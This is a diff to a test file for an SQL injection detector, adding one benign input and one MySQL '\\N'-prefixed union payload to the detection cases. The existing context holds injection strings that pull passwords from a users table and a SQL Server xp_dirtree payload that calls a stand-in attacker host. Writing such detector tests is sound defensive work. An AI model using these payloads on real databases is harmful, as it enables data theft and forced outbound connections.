@@ -118,6 +118,7 @@ describe('SQL injection pack', () => {
     'name as n, age',
     "it's a, b=c -- d",
     'begin transaction',
+    'C:\\new folder\\nunion',
   ])('leaves query-language and ordinary text alone: %j', (raw) => {
     expect(classes(raw)).toEqual([]);
   });
@@ -138,6 +139,8 @@ describe('SQL injection pack', () => {
     ['name,(SELECT TOP 1 password FROM users) AS x', 100119],
     ['username,password FROM users--', 100119],
     ['*,version()', 100119],
+    // MySQL's \N is NULL and ends its token
+    ['\\Nunion select 1,2,3-- -', 100101],
     // SQL Server reads control characters as spaces (space2mssqlblank)
     ["';\x0eEXEC\x02master..xp_dirtree\x0c'\\\\attacker.example\\share'--", 100111],
   ])('reads %j as an injection (%i) at level 1', (raw, rule) => {
